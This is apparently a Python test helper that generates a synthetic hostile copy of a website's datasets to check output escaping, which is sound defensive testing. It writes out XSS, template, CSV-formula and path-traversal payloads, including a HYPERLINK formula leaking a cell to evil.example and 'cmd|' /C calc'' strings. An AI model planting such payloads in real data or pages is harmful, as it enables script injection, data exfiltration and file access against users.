"""SYNTHETIC hostile test data: a copy of data/ whose strings are attacks.

Made by code, in a temporary folder, for the tests only; it is never written
into data/ and never published. Every string column a payload can reach
(names, labels, notes, sources, sidecar titles and descriptions, country
labels, author slugs, one source id) carries HTML, attribute, script, SVG,
URL, CSV-formula and template injections, and right-to-left, emoji and very
long names. Values the pages and views look up by name (a claim id, the
article's top model, the `other` row, the lab slugs the prose sums) are
kept, so every page still builds and every payload lands in a chart, a
tooltip, a table, an alt text, a title, a social tag or a download.

Each script payload would set `window.__pwned` (to a tag naming it): the
browser tests assert that it stays unset.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parent.parent
MARK = "__pwned"  # the global every script payload would set

PAYLOADS = (
    '<script>window.__pwned="script"</script>',
    '"><img src=x onerror="window.__pwned=\'img\'">',
    "'><svg onload=window.__pwned='svg'>",
    '<svg><script>window.__pwned="svg-script"</script></svg>',
    'javascript:window.__pwned="url"',
    '" onmouseover="window.__pwned=\'attr\'" data-x="',
    '</title></textarea></style></script><script>window.__pwned="close"</script>',
    '<a href="javascript:window.__pwned=\'link\'">a link</a>',
    '[a markdown link](javascript:window.__pwned="md") *emphasis* `code`',
    '![x](x" onerror="window.__pwned=\'mdimg\')',
    '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned="mxss">',
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "{{ 7*7 }}",
    "{% include 'x' %}",
    "{{ config.site_name }} {# a comment #} {{ chart('country_share_weekly') }}",
    "${7*7} {as_of} {period} %s %(x)s",
    "datum.value + '); window.__pwned=\"vega\"; ('",
    "مختبر الذكاء الاصطناعي",
    "🦜🔥 Parrot Lab 👩‍🔬",
    "The Extraordinarily Long-Named International Laboratory for Very Large Language Models, "
    "Their Many Tokens and Everything Else They Might Ever Need to Say on a Chart",
)

# Author slugs of labs added to the lab table: each also names a generated lab page.
SLUGS = (
    '<script>window.__pwned="slug"</script>',
    '"><img src=x onerror=window.__pwned="slug-img">',
    "../../../../tmp/pwned",
    "..",
    "/etc/passwd",
    "{{ 7*7 }}",
    '=HYPERLINK("https://evil.example","x")',
    "مختبر-الذكاء",
    "🦜-labs",
    "index",
    "a-very-long-author-slug-" * 12,
)

COUNTRY_LABELS = {
    "US": 'United States <script>window.__pwned="enum"</script>',
    "CN": 'China "><img src=x onerror=window.__pwned="enum-img">',
    "OTHER": "Other {{ 7*7 }} countries",
    "UNKNOWN": "=Unknown()",
}
RENAMED_SOURCE = ("openrouter-models-api", '"><svg onload=window.__pwned="sid">')

# Looked up by name in the pages and views: kept as they are.
KEEP = {
    "cn_open_weight_weekly_share_start", "cn_open_weight_weekly_share_peak", "cn_open_weight_weekly_share_mean",
    "us_big_three_share", "cn_six_labs_share", "cn_models_in_top10", "percent",
    "MiMo-V2-Pro", "other", "Others",
}


def payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)]


def _read_csv(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def _write_csv(path: Path, rows: list[dict], columns: list[str]) -> None:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _free_text(column: dict, referenced: bool) -> bool:
    """A string column data can say anything in: no enum, pattern or reference constrains it,
    and no other dataset refers to its values (those get extra rows instead)."""
    constrained = {"enum", "pattern", "references"} & set(column)
    return column["type"] == "string" and not constrained and not referenced and column["name"] != "source"


def make(target: Path, source: Path = ROOT / "data", rename_source: bool = True) -> Path:
    """Write the hostile copy of `source` into `target` (created); returns it.

    `rename_source=False` keeps the source id the importer cites."""
    renamed = RENAMED_SOURCE if rename_source else (RENAMED_SOURCE[0], RENAMED_SOURCE[0])
    shutil.copytree(source, target)
    # The retired weekly lab table, as an editor's dataset: it carries the hostile author slugs
    # (which the daily rows' pattern would refuse) into lab pages, tables and charts.
    from ingest_support import add_curated

    add_curated(target, ["author_tokens_weekly"])
    (target / "SYNTHETIC-HOSTILE-TEST-DATA.txt").write_text(
        "SYNTHETIC hostile test data made by tests/hostile.py. Not real, never published.\n", encoding="utf-8")
    counter = 0
    metas = {}
    for meta_path in sorted(target.glob("*.meta.yml")):
        meta = yaml.safe_load(meta_path.read_text(encoding="utf-8"))
        metas[meta_path.name.removesuffix(".meta.yml")] = meta
        for key in ("title", "description"):
            meta[key] = f"{payload(counter)} {meta[key]}"
            counter += 1
        meta["scope"] = payload(counter)
        counter += 1
        for column in meta["columns"]:
            column["description"] = payload(counter)
            counter += 1
        meta["sources"] = [renamed[1] if s == renamed[0] else s for s in meta["sources"]]
    metas["labs"]["columns"][3]["enum"] = dict(COUNTRY_LABELS)
    metas["labs"]["columns"][1]["title"] = "Lab <b>name</b> & {{ 7*7 }}"

    referenced = {tuple(c["references"].split(".")) for m in metas.values() for c in m["columns"] if "references" in c}
    for name, meta in metas.items():
        path = target / f"{name}.csv"
        columns = [c["name"] for c in meta["columns"]]
        rows = _read_csv(path)
        for i, row in enumerate(rows):
            for column in meta["columns"]:
                value = row[column["name"]]
                if _free_text(column, (name, column["name"]) in referenced) and value not in KEEP:
                    row[column["name"]] = f"{payload(counter)} ·{i}"
                    counter += 1
                if column["name"] == "source" and value == renamed[0]:
                    row["source"] = renamed[1]
        rows += _extra_rows(name, rows)
        _write_csv(path, rows, columns)
        (target / f"{name}.meta.yml").write_text(yaml.safe_dump(meta, allow_unicode=True, sort_keys=False), encoding="utf-8")

    sources = yaml.safe_load((target / "sources.yml").read_text(encoding="utf-8"))
    sources[renamed[1]] = sources.pop(renamed[0])
    for i, (sid, entry) in enumerate(sorted(sources.items())):
        for key in ("title", "publisher", "licence", "citation", "note", "published"):
            entry[key] = f"{payload(counter)} ({key} of {i})"
            counter += 1
        # Quotes and brackets kept (the attribute must escape them); spaces are no URL's.
        entry["url"] = ("https://example.org/?q=" + payload(i) + "#" + payload(i + 1)).replace(" ", "%20")
        entry["licence_url"] = ("https://example.org/licence/" + payload(i + 2)).replace(" ", "%20")
    (target / "sources.yml").write_text(yaml.safe_dump(sources, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return target


GROUPS = (("US", "US"), ("CN", "CN"), ("FR", "OTHER"), ("UNKNOWN", "UNKNOWN"))


def _extra_rows(name: str, rows: list[dict]) -> list[dict]:
    """Rows naming the hostile labs, so their slugs and names reach charts and tables."""
    if name == "labs":
        return [
            {"author_slug": slug, "lab": f"{payload(i)} ·lab{i}", "country": GROUPS[i % 4][0], "country_group": GROUPS[i % 4][1],
             "basis": "trackers", "notes": payload(i + 3), "source": rows[0]["source"]}
            for i, slug in enumerate(SLUGS)
        ]
    if name == "author_tokens_weekly":
        latest = max(r["week_start"] for r in rows)
        days = next(r["days"] for r in rows if r["week_start"] == latest)
        return [{"week_start": latest, "days": days, "author_slug": slug, "tokens_b": f"{2600 - 90 * i:.1f}", "source": rows[0]["source"]}
                for i, slug in enumerate(SLUGS)]
    if name == "model_prices":
        return [{"as_of": rows[0]["as_of"], "model_id": f"{slug}/{payload(i + 5)}", "model": f"{payload(i + 7)} ·price{i}",
                 "author_slug": slug, "input_usd_per_mtok": f"{0.5 + i / 10:.2f}", "output_usd_per_mtok": f"{2 + i:.2f}",
                 "source": rows[0]["source"]} for i, slug in enumerate(SLUGS[:4])]
    if name == "benchmark_scores":
        latest = max(r["snapshot_date"] for r in rows if r["benchmark"] == "aa_intelligence_index")
        return [{"snapshot_date": latest, "benchmark": "aa_intelligence_index", "model": f"{payload(i + 11)} ·bench{i}",
                 "author_slug": slug, "score": f"{64 - i:.1f}", "rank": "", "source": next(r["source"] for r in rows if r["snapshot_date"] == latest)}
                for i, slug in enumerate(SLUGS[:2])]
    return []


def strings_in_pages() -> list[str]:
    """Payload texts a reader should see, literally, somewhere on the site."""
    return [p for p in PAYLOADS if "\t" not in p]


# --- the same attacks arriving through OpenRouter's API ------------------------------------

# Model permaslugs an API could send: they pass the imported dataset's pattern
# (an author without '/' or spaces, then '/' and no spaces), so only escaping
# stands between them and a reader. Their authors are added to the lab table
# (as a maintainer would after the import lists them), named with payloads.
API_MODELS = {  # each larger than any real one below: they lead the week's top models
    '"><img/src=x/onerror=window.__pwned="api-img">/m1': 2_000_000_000_000,
    "<script>window.__pwned='api'</script>": 1_900_000_000_000,
    "x-evil/'><svg/onload=window.__pwned='api-svg'>": 1_800_000_000_000,
    "{{7*7}}/{%include'x'%}": 1_700_000_000_000,
    '=HYPERLINK("//evil.example")/m2': 1_600_000_000_000,
    "../../etc/passwd": 1_500_000_000_000,
    "مختبر/نموذج-١:free": 1_400_000_000_000,
}
API_REAL = {  # real authors (the pages name some), made-up models
    f"{author}/synthetic-{author}-model-{n}": 100_000_000_000 * (13 - i) + n
    for i, author in enumerate(("deepseek", "openai", "anthropic", "google", "qwen", "z-ai", "moonshotai",
                                "minimax", "xiaomi", "tencent", "nvidia", "x-ai"))
    for n in (1, 2)
}


def api_authors() -> list[str]:
    return sorted({slug.split("/", 1)[0] for slug in API_MODELS})


def make_api(target: Path, work: Path) -> Path:
    """The hostile copy of data/ plus SYNTHETIC hostile API responses imported into it (openrouter_daily)."""
    import json
    from datetime import date, timedelta

    from ingest_support import synthetic_rankings
    from macros.ingest import cli

    make(target, rename_source=False)
    labs = target / "labs.csv"
    rows = _read_csv(labs)
    rows += [{"author_slug": a, "lab": f"{payload(i + 1)} ·api{i}", "country": GROUPS[i % 4][0], "country_group": GROUPS[i % 4][1],
              "basis": "trackers", "notes": "", "source": rows[0]["source"]} for i, a in enumerate(api_authors()) if a not in {r["author_slug"] for r in rows}]
    _write_csv(labs, rows, list(rows[0]))
    # The last three weeks of the copy's data, whatever day that is: the hostile models lead its latest full week.
    last = max(r["date"] for r in _read_csv(target / "openrouter_daily.csv"))
    end = date.fromisoformat(last)
    start = end - timedelta(days=20)
    daily = {slug: base // 16 for slug, base in {**API_MODELS, **API_REAL, "other": 50_000_000_000}.items()}
    rankings = work / "rankings-hostile.json"
    rankings.write_bytes(synthetic_rankings(start, end, f"{(end + timedelta(days=1)).isoformat()}T23:00:00Z", models=daily))
    models = [{"id": slug.removesuffix(":free"), "canonical_slug": slug.removesuffix(":free"), "name": f"{payload(i + 2)} (model name)",
               "created": 1735689600, "context_length": 1000, "pricing": {"prompt": "0.000001", "completion": "0.000002"}}
              for i, slug in enumerate([*API_MODELS, *API_REAL])]
    catalogue = work / f"models_{(end + timedelta(days=1)).isoformat()}.json"
    catalogue.write_text(json.dumps({"data": models}), encoding="utf-8")
    assert cli.main(["--data", str(target), "import", str(rankings), str(catalogue)]) == 0
    return target
